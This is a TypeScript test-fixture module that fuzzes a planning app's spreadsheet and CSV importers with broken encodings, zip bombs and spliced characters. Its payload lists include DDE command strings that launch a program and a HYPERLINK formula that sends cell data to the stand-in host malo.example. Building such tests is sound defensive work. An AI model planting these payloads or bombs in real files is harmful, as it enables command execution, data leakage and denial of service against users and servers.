/**
 * Hostile files for the importers: the seed plan's own exported matriz (XLSX,
 * CSV, rumbo.plan/v1 JSON) and a real bulk load of reports, cut at a random
 * byte, with bytes flipped, with quotes, separators, BOMs and NULs spliced in,
 * re-encoded (UTF-16 LE/BE, Windows-1252), with spreadsheet formulas in their
 * cells; random bytes; and the files no spreadsheet saves (zip bombs within
 * and beyond the upload limits, a part that lies about its size, too many
 * parts).
 */
import type { Plan } from "@rumbo/core";
import fc from "fast-check";
import { writePlanFile } from "../files/plan-files.ts";
import { UPLOAD_LIMITS } from "../files/upload-limits.ts";
import { bombWorkbook, oneSheetWorkbook, zip } from "./zip-archive.ts";

export const XLSX_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet";

/** Snippets that break CSV and XML readers when spliced in anywhere. */
export const SPLICES = [
  '"',
  '""',
  '"a""b',
  ";",
  ",",
  ";;;;;;;;;;",
  "\r",
  "\n",
  "\r\n\r\n",
  "\uFEFF",
  "\uFFFE",
  "\u0000",
  "\uD800",
  '=HYPERLINK("http://malo.example";"clic")',
  "=CMD|' /C calc'!A0",
  "@SUM(1+1)",
  "+1+1",
  "-2+3",
  "\t=1",
  "NP",
  "ND",
  "1,234,5",
  "1e308",
  "-0",
  "<",
  "</row>",
  '<c r="A1"><f>1/0</f></c>',
  "]]>",
  "&amp;&#0;",
  "ñandú 🦜",
];

/** Formula texts planted in a cell as its saved value or as a formula. */
export const FORMULA_TEXTS = [
  '=HYPERLINK("http://malo.example/?d="&A1;"Ver soporte")',
  "=CMD|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "+1+1",
  "-2+3",
  "\t=1+1",
  "\r=1+1",
  "'=1+1",
];

/** Byte-level mutations of a valid file: the shapes a broken upload arrives in. */
export function mutatedBytes(seed: Buffer): fc.Arbitrary<Buffer> {
  const at = fc.nat({ max: seed.length });
  return fc.oneof(
    // Cut at a random offset (an upload that stopped half way).
    { weight: 3, arbitrary: at.map((n) => Buffer.from(seed.subarray(0, n))) },
    // Bytes flipped.
    {
      weight: 3,
      arbitrary: fc
        .array(fc.tuple(at, fc.integer({ min: 1, max: 255 })), { minLength: 1, maxLength: 12 })
        .map((flips) => {
          const bytes = Buffer.from(seed);
          for (const [i, x] of flips) if (i < bytes.length) bytes[i] = (bytes[i] ?? 0) ^ x;
          return bytes;
        }),
    },
    // Something spliced in.
    {
      weight: 2,
      arbitrary: fc
        .tuple(at, fc.constantFrom(...SPLICES))
        .map(([i, text]) =>
          Buffer.concat([seed.subarray(0, i), Buffer.from(text, "utf8"), seed.subarray(i)]),
        ),
    },
    // A stretch removed.
    {
      weight: 1,
      arbitrary: fc
        .tuple(at, fc.nat({ max: 400 }))
        .map(([i, n]) => Buffer.concat([seed.subarray(0, i), seed.subarray(i + n)])),
    },
    // Random bytes with the file's first bytes (passes a magic-number sniff).
    {
      weight: 1,
      arbitrary: fc
        .uint8Array({ maxLength: 2_000 })
        .map((tail) => Buffer.concat([seed.subarray(0, 8), Buffer.from(tail)])),
    },
  );
}

/** Text-level mutations of a CSV: cells replaced, separators swapped, other encodings. */
export function mutatedCsv(text: string): fc.Arbitrary<Buffer> {
  const cells = text.split(/([;\r\n]+)/);
  const withCell = fc
    .tuple(
      fc.nat({ max: Math.max(0, cells.length - 1) }),
      fc.oneof(
        fc.constantFrom(...FORMULA_TEXTS, ...SPLICES),
        fc.string({ unit: "binary", maxLength: 30 }),
        fc.constant("x".repeat(UPLOAD_LIMITS.maxCellChars + 1)),
      ),
    )
    .map(([i, value]) =>
      cells.map((cell, j) => (j === i && !/^[;\r\n]+$/.test(cell) ? value : cell)).join(""),
    );
  const swapped = fc
    .constantFrom<[string, string]>(
      [";", ","],
      [";", "\t"],
      ["\r\n", "\n"],
      ["\r\n", "\r"],
      [";", '";"'],
    )
    .map(([from, to]) => text.split(from).join(to));
  const base = fc.oneof(withCell, swapped, fc.constant(text));
  return fc
    .tuple(base, fc.constantFrom("utf8", "utf8", "utf16le", "utf16be", "latin1", "nobom"))
    .map(([csv, encoding]) => encode(csv, encoding));
}

function encode(text: string, encoding: string): Buffer {
  const plain = text.replace(/^\uFEFF/, "");
  switch (encoding) {
    case "utf16le":
      return Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(plain, "utf16le")]);
    case "utf16be": {
      const le = Buffer.from(plain, "utf16le");
      const be = Buffer.alloc(le.length);
      for (let i = 0; i + 1 < le.length; i += 2) {
        be[i] = le[i + 1] ?? 0;
        be[i + 1] = le[i] ?? 0;
      }
      return Buffer.concat([Buffer.from([0xfe, 0xff]), be]);
    }
    case "latin1":
      return Buffer.from(plain, "latin1");
    case "nobom":
      return Buffer.from(plain, "utf8");
    default:
      return Buffer.from(text, "utf8");
  }
}

/** The bulk load of reports the tests start from: real rows of the seed plan for 2025-Q1. */
export const REPORTS_CSV = [
  "Indicador;Período;Valor;Logros;Beneficios a la ciudadanía",
  "2307;2025-Q1;44;Se asistieron 44 entidades distritales.;Mejor gestión del talento humano.",
  "77;2025-Q1;68,5;;",
  "78;2025-Q1;1.234,5;Avance del primer trimestre;",
].join("\r\n");

/** The same load as a workbook with a «Reportes» sheet; `cells` overrides cells (formulas). */
export async function reportsWorkbook(cells: Record<string, unknown> = {}): Promise<Buffer> {
  const { default: excel } = await import("exceljs");
  const workbook = new excel.Workbook();
  const sheet = workbook.addWorksheet("Reportes");
  for (const line of REPORTS_CSV.split("\r\n"))
    sheet.addRow(line.split(";").map((v) => (/^\d+$/.test(v) ? Number(v) : v)));
  for (const [address, value] of Object.entries(cells))
    sheet.getCell(address).value = value as never;
  return Buffer.from(await workbook.xlsx.writeBuffer());
}

/** The plan's matriz with formula cells planted (read back: a result is read, none is a problem). */
export async function matrizWithFormulas(
  plan: Plan,
  cells: Record<string, unknown>,
): Promise<Buffer> {
  const { default: excel } = await import("exceljs");
  const workbook = new excel.Workbook();
  await workbook.xlsx.load(new Uint8Array(await writePlanFile(plan, "xlsx")).buffer);
  const sheet = workbook.getWorksheet("Indicadores");
  for (const [address, value] of Object.entries(cells))
    if (sheet) sheet.getCell(address).value = value as never;
  return Buffer.from(await workbook.xlsx.writeBuffer());
}

/** A sheet of cells with formulas, shared formulas and cached results, written as XML. */
export function formulaSheetWorkbook(): Buffer {
  const header =
    '<row r="1"><c r="A1" t="inlineStr"><is><t>Indicador</t></is></c><c r="B1" t="inlineStr"><is><t>Periodo</t></is></c><c r="C1" t="inlineStr"><is><t>Valor</t></is></c></row>';
  const rows = [2, 3, 4, 5].map(
    (r) =>
      `<row r="${r}"><c r="A${r}" t="str"><f>HYPERLINK("http://malo.example","2307")</f><v>2307</v></c>` +
      `<c r="B${r}" t="str"><f>CMD|' /C calc'!A0</f><v>2025-Q1</v></c>` +
      (r === 2
        ? `<c r="C${r}"><f t="shared" ref="C2:C5" si="0">A2*2</f><v>4614</v></c>`
        : `<c r="C${r}"><f t="shared" si="0"/></c>`) +
      "</row>",
  );
  return oneSheetWorkbook(header + rows.join(""));
}

/** Files no spreadsheet program saves, each once per run: they attack the limits. */
export function hostileWorkbooks(): { name: string; bytes: Buffer }[] {
  const manyParts = zip(
    Array.from({ length: UPLOAD_LIMITS.maxZipEntries + 1 }, (_, i) => ({
      name: `xl/media/imagen${i}.bin`,
      data: Buffer.from([i % 256]),
    })),
  );
  return [
    // Within the limits: 12 MB of sheet XML from a few kilobytes, read to the end.
    { name: "bomba-12mb.xlsx", bytes: bombWorkbook(12) },
    // Beyond: declares 70 MB unzipped.
    {
      name: "bomba-70mb.xlsx",
      bytes: zip([
        { name: "xl/worksheets/sheet1.xml", data: Buffer.alloc(70 * 1024 * 1024, 0x20) },
      ]),
    },
    // A part that holds far more than it declares.
    { name: "miente.xlsx", bytes: oneSheetWorkbook('<row r="1"></row>'.repeat(50_000), 100) },
    { name: "partes.xlsx", bytes: manyParts },
    { name: "formulas.xlsx", bytes: formulaSheetWorkbook() },
  ];
}
